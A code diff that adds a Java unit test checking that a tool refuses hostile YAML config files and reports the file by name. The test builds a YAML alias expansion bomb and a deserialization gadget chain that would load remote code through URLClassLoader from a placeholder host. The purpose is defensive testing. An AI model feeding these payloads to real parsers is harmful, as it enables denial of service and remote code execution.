@@ -286,4 +286,30 @@ class HostileInputTest {
             Thread.currentThread().setContextClassLoader(previous);
         }
     }
+
+    @Test
+    void aYamlAliasBombAndAJavaTagAreRefusedNamingTheFile(@TempDir Path dir) throws IOException {
+        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x, x]\n");
+        for (char c = 'b'; c <= 'j'; c++) {
+            bomb.append(c).append(": &").append(c).append(" [");
+            for (int i = 0; i < 10; i++) {
+                bomb.append(i == 0 ? "" : ", ").append('*').append((char) (c - 1));
+            }
+            bomb.append("]\n"); // 10^10 strings if the aliases were expanded
+        }
+        Path f = dir.resolve("bomb.yaml");
+        Files.writeString(f, bomb);
+        Outcome o = run("run", "--config", f.toString(), "--out", dir.resolve("r").toString());
+        assertThat(o.exit()).isEqualTo(2);
+        assertThat(o.err()).contains("error: Config file " + f + " is not valid YAML").contains("aliases");
+        oneLine(o);
+        Path tag = dir.resolve("tag.yaml");
+        Files.writeString(tag, "seed: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
+                + " [\"http://example.invalid/\"]]]]\n");
+        Outcome t = run("run", "--config", tag.toString(), "--out", dir.resolve("r").toString());
+        assertThat(t.exit()).isEqualTo(2);
+        assertThat(t.err()).contains("error: Config file " + tag + " is not valid YAML");
+        oneLine(t);
+        assertThat(dir.resolve("r")).doesNotExist();
+    }
 }
